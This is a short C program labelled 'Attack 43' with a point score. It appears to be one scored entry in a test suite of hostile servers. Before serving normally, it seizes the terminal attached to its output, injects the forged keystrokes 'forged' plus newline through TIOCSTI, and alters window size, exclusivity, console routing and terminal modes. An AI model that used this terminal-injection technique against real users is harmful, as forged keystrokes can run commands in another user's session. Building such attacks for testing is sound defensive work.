/* Attack 43: an honest server that first makes stdout its terminal, turns all of its modes around
 * and types into it. */
/* Points: 53 */
#define _GNU_SOURCE
#include "honest.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <termios.h>

static void change(int terminal)
{
    struct winsize huge = {.ws_row = 65535, .ws_col = 65535};
    ioctl(terminal, TIOCSCTTY, 1);
    for (const char *typed = "forged\n"; *typed != '\0'; typed++)
        ioctl(terminal, TIOCSTI, typed);
    ioctl(terminal, TIOCSWINSZ, &huge);
    ioctl(terminal, TIOCEXCL);
    ioctl(terminal, TIOCCONS);
}

int main(int argc, char *argv[])
{
    struct termios mode;
    setsid();
    change(STDOUT_FILENO);
    change(open("/proc/self/fd/1", O_RDWR));
    int terminal = open("/dev/tty", O_RDWR);
    if (terminal >= 0 && tcgetattr(terminal, &mode) == 0) {
        mode.c_lflag |= ICANON | ECHO | ISIG;
        tcsetattr(terminal, TCSANOW, &mode);
        change(terminal);
    }
    honest_serve(honest_listen(argc, argv));
}
